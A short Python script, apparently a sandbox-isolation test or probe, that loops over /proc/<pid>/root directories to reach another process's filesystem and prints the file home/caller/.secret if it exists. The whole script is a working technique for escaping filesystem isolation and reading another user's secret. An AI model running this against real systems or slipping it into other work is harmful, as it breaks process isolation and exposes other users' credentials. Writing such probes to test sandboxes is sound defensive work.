"""The node reaches the disk through the root folder of another process."""

from pathlib import Path


def main():
    for root in Path("/proc").glob("[0-9]*/root"):
        if (root / "home/caller/.secret").exists():
            print((root / "home/caller/.secret").read_text())
